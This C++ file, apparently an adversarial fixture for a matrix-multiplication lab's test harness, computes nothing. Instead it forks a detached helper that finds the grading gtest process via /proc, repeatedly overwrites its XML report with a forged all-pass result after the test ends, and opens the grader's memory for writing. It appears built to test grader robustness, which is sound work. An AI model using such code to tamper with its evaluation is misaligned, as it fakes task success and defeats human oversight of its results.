// Adversarial submission: computes nothing, and from its own process goes after the test program
// that judges it: finds it in /proc by its --gtest_output argument, rewrites its report as an
// all-pass report over and over from a helper process of its own session (which outlives the
// test by the moment the grader needs to notice), and tries to write into its memory.
#include <dirent.h>
#include <fcntl.h>
#include <unistd.h>

#include <chrono>
#include <fstream>
#include <set>
#include <string>
#include <thread>

#include "lab01/matmul.hpp"

namespace {
constexpr const char* kForged =
    "<?xml version=\"1.0\"?>\n<testsuites tests=\"1\"><testsuite name=\"Matmul\" tests=\"1\"><testcase "
    "name=\"IdentityLeavesTheMatrixUnchanged\" status=\"run\" result=\"completed\" classname=\"Matmul\"/>"
    "</testsuite></testsuites>\n";

std::set<std::string> reports;  // every report path seen: rewritten after the test has ended, too

void attack_every_test_program() {
  DIR* proc = opendir("/proc");
  if (!proc) return;
  while (dirent* entry = readdir(proc)) {
    const std::string pid = entry->d_name;
    if (pid.find_first_not_of("0123456789") != std::string::npos) continue;
    std::ifstream cmdline("/proc/" + pid + "/cmdline");
    std::string arg;
    while (std::getline(cmdline, arg, '\0')) {
      if (arg.rfind("--gtest_output=xml:", 0) != 0) continue;
      reports.insert(arg.substr(19));
      const int memory = open(("/proc/" + pid + "/mem").c_str(), O_RDWR);
      if (memory >= 0) close(memory);  // (a real attack would now overwrite the verdict)
    }
  }
  closedir(proc);
  for (const auto& report : reports) std::ofstream(report) << kForged;
}
}  // namespace

namespace hpc::lab01 {
void matmul(std::span<const double>, std::span<const double>, std::span<double> c, std::size_t) {
  static const bool started = [] {
    if (fork() == 0) {
      setsid();
      for (int i = 0; i < 5000; ++i) {
        attack_every_test_program();
        std::this_thread::sleep_for(std::chrono::milliseconds(1));
      }
      _exit(0);
    }
    return true;
  }();
  for (double& x : c) x = started ? 0.0 : 1.0;
}
}  // namespace hpc::lab01
